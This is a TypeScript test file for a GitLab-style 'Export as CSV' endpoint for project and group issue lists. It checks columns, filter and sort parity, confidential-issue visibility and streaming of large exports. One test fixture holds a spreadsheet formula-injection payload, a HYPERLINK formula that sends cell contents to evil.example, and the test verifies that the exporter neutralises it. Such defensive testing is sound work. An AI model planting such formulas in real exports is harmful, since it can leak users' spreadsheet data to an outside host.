import { beforeAll, describe, expect, it } from 'vitest';
import { AccessLevel } from '../../policy/access-levels';
import { parseCsv } from '../../test/csv-records';
import { createIssuesInBulk } from '../../test/factories';
import { useRestTestApp } from '../../test/rest-test-app';

/** "Export as CSV" of the project and group issue lists (issue 32): GitLab's columns, the list's rules, streamed. */
const t = useRestTestApp({
  prefix: 'csv_',
  users: ['owner', 'guest', 'outsider'],
  groups: {
    acme: { path: 'csvacme', members: { owner: AccessLevel.OWNER, guest: AccessLevel.GUEST } },
    open: { path: 'csvopen', visibility: 20, members: { owner: AccessLevel.OWNER } },
  },
  projects: {
    web: { path: 'web', group: 'acme' },
    api: { path: 'api', group: 'acme' },
    bulk: { path: 'bulk', group: 'acme' },
    pub: { path: 'pub', group: 'open', visibility: 20 },
  },
});
const { api, tok, uid, pid, gid } = t;

/** GitLab's `Issues::ExportCsvService` columns, then EE's epic columns (a project in a group). */
const GITLAB_COLUMNS = [
  'Title',
  'Description',
  'Issue ID',
  'URL',
  'State',
  'Author',
  'Author Username',
  'Assignee',
  'Assignee Username',
  'Confidential',
  'Locked',
  'Due Date',
  'Created At (UTC)',
  'Updated At (UTC)',
  'Closed At (UTC)',
  'Milestone',
  'Weight',
  'Labels',
  'Time Estimate',
  'Time Spent',
  'Epic ID',
  'Epic Title',
];

function csvGet(path: string, who?: string) {
  return t.app.inject({ method: 'GET', url: path, headers: who ? { 'private-token': tok[who] ?? '' } : {} });
}

/** The export as objects by header, after checking it answered 200 with the header row. */
async function exportRows(path: string, who?: string): Promise<Array<Record<string, string>>> {
  const res = await csvGet(path, who);
  expect(res.statusCode, res.body).toBe(200);
  const [header, ...rows] = parseCsv(res.body);
  return rows.map((r) => Object.fromEntries((header ?? []).map((h, i) => [h, r[i] ?? ''])));
}

const newIssue = async (projectId: number, fields: Record<string, unknown>) => {
  const res = await api('POST', `/projects/${projectId}/issues`, 'owner', fields);
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as { iid: number; id: number };
};

let formulaIid = 0;
let secretIid = 0;

beforeAll(async () => {
  const milestone = await api('POST', `/projects/${pid.web}/milestones`, 'owner', {
    title: 'v1',
    due_date: '2030-01-01',
  });
  expect(milestone.statusCode, milestone.body).toBe(201);
  const alpha = await newIssue(pid.web, {
    title: 'Alpha, "quoted"',
    description: 'Line one\nline two',
    labels: 'feature,bug',
    due_date: '2031-05-06',
    weight: 3,
    assignee_ids: [uid.owner],
    milestone_id: milestone.json().id,
  });
  await api('POST', `/projects/${pid.web}/issues/${alpha.iid}/add_spent_time`, 'owner', { duration: '1h' });
  await api('POST', `/projects/${pid.web}/issues/${alpha.iid}/time_estimate`, 'owner', { duration: '2h' });
  formulaIid = (
    await newIssue(pid.web, { title: '=HYPERLINK("http://evil.example/?"&A1)', description: '-2+3', weight: 1 })
  ).iid;
  await newIssue(pid.web, { title: '+plus', description: '@SUM(A1)', labels: 'bug', due_date: '2030-02-02' });
  const closed = await newIssue(pid.web, { title: 'Closed one', labels: 'bug', weight: 5 });
  expect(
    (await api('PUT', `/projects/${pid.web}/issues/${closed.iid}`, 'owner', { state_event: 'close' })).statusCode,
  ).toBe(200);
  secretIid = (await newIssue(pid.web, { title: 'Secret plan', confidential: true })).iid;
  await newIssue(pid.api, { title: 'In the other project', labels: 'bug' });
  await newIssue(pid.pub, { title: 'Public issue' });
});

describe('GET /<project>/-/issues.csv', () => {
  it("answers GitLab's columns in GitLab's order, as a dated CSV attachment", async () => {
    const res = await csvGet('/csvacme/web/-/issues.csv', 'owner');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="web-issues-${today}.csv"`);
    expect(parseCsv(res.body)[0]).toEqual(GITLAB_COLUMNS);
  });

  it("writes each issue's cells as GitLab does", async () => {
    const rows = await exportRows('/csvacme/web/-/issues.csv', 'owner');
    const alpha = rows.find((r) => r.Title === 'Alpha, "quoted"');
    expect(alpha).toMatchObject({
      Description: 'Line one\nline two',
      State: 'Open',
      'Author Username': 'csv_owner',
      'Assignee Username': 'csv_owner',
      Confidential: 'No',
      Locked: 'No',
      'Due Date': '2031-05-06',
      'Closed At (UTC)': '',
      Milestone: 'v1',
      Weight: '3',
      Labels: 'bug,feature',
      'Time Estimate': '7200',
      'Time Spent': '3600',
      'Epic ID': '',
    });
    expect(alpha?.URL).toMatch(/\/csvacme\/web\/-\/issues\/1$/);
    expect(alpha?.['Created At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    const closed = rows.find((r) => r.Title === 'Closed one');
    expect(closed?.State).toBe('Closed');
    expect(closed?.['Closed At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
  });

  it('prefixes cells a spreadsheet would run as formulas with a quote', async () => {
    const rows = await exportRows('/csvacme/web/-/issues.csv', 'owner');
    const formula = rows.find((r) => r['Issue ID'] === String(formulaIid));
    expect(formula?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(formula?.Description).toBe("'-2+3");
    const plus = rows.find((r) => r.Title === "'+plus");
    expect(plus?.Description).toBe("'@SUM(A1)");
  });

  it.each([
    '',
    '?state=opened&labels=bug&order_by=title&sort=asc',
    '?order_by=due_date&sort=desc',
    '?order_by=weight&sort=asc',
    '?order_by=updated_at&sort=asc&not[labels]=feature',
    '?order_by=milestone_due&sort=asc',
    '?order_by=priority',
    '?search=plus&in=title',
  ])('lists what the REST list lists, in its order: %s', async (query) => {
    const rest = await api('GET', `/projects/${pid.web}/issues${query}${query ? '&' : '?'}per_page=100`, 'owner');
    expect(rest.statusCode, rest.body).toBe(200);
    const rows = await exportRows(`/csvacme/web/-/issues.csv${query}`, 'owner');
    expect(rows.map((r) => Number(r['Issue ID']))).toEqual((rest.json() as Array<{ iid: number }>).map((i) => i.iid));
  });

  it('leaves confidential issues out for a Guest, as the list does', async () => {
    const asGuest = await exportRows('/csvacme/web/-/issues.csv', 'guest');
    expect(asGuest.map((r) => r['Issue ID'])).not.toContain(String(secretIid));
    expect(asGuest.length).toBeGreaterThan(0);
    const asOwner = await exportRows('/csvacme/web/-/issues.csv', 'owner');
    expect(asOwner.map((r) => r['Issue ID'])).toContain(String(secretIid));
  });

  it('is 404 for a project the caller may not see, and works anonymously on a public project', async () => {
    expect((await csvGet('/csvacme/web/-/issues.csv', 'outsider')).statusCode).toBe(404);
    expect((await csvGet('/csvacme/web/-/issues.csv')).statusCode).toBe(404);
    expect((await csvGet('/csvacme/nothing/-/issues.csv', 'owner')).statusCode).toBe(404);
    const rows = await exportRows('/csvopen/pub/-/issues.csv');
    expect(rows.map((r) => r.Title)).toEqual(['Public issue']);
  });

  it('refuses a bad filter with a 400 naming it, as the list does', async () => {
    const res = await csvGet('/csvacme/web/-/issues.csv?state=bogus', 'owner');
    expect(res.statusCode).toBe(400);
    expect(res.body).toContain('state');
  });
});

describe('GET /groups/<group>/-/issues.csv', () => {
  it("lists the group's issues as GET /groups/:id/issues does, in its order", async () => {
    const query = '?labels=bug&order_by=title&sort=asc';
    const rest = await api('GET', `/groups/${gid.acme}/issues${query}&per_page=100`, 'owner');
    const res = await csvGet(`/groups/csvacme/-/issues.csv${query}`, 'owner');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="csvacme-issues-\d{4}-\d\d-\d\d\.csv"$/);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual(GITLAB_COLUMNS);
    const urls = rows.map((r) => r[3]);
    expect(urls).toEqual((rest.json() as Array<{ web_url: string }>).map((i) => i.web_url));
    expect(urls.some((u) => u?.includes('/csvacme/api/-/issues/'))).toBe(true);
  });

  it('is 404 for a group the caller may not see', async () => {
    expect((await csvGet('/groups/csvacme/-/issues.csv', 'outsider')).statusCode).toBe(404);
    expect((await csvGet('/groups/csvacme/-/issues.csv')).statusCode).toBe(404);
  });
});

describe('a long export', () => {
  const COUNT = 1_500;
  beforeAll(async () => {
    await createIssuesInBulk(t.db, { projectId: pid.bulk, authorId: uid.owner as number, count: COUNT });
  });

  it('streams every row, in keyset batches across equal sort keys, without the pages’ limit', async () => {
    const rows = await exportRows('/csvacme/bulk/-/issues.csv', 'owner');
    expect(rows).toHaveLength(COUNT);
    // One insert: one created_at for all, so the order is id (and so iid) descending.
    const iids = rows.map((r) => Number(r['Issue ID']));
    expect(iids).toEqual([...iids].sort((a, b) => b - a));
    expect(new Set(iids).size).toBe(COUNT);
  });

  it('keeps a text order across batches as the REST list pages it', async () => {
    const rows = await exportRows('/csvacme/bulk/-/issues.csv?order_by=title&sort=asc', 'owner');
    const listed: number[] = [];
    for (let page = 1; page <= COUNT / 100; page++) {
      const res = await api(
        'GET',
        `/projects/${pid.bulk}/issues?order_by=title&sort=asc&per_page=100&page=${page}`,
        'owner',
      );
      listed.push(...(res.json() as Array<{ iid: number }>).map((i) => i.iid));
    }
    expect(rows.map((r) => Number(r['Issue ID']))).toEqual(listed);
  });
});
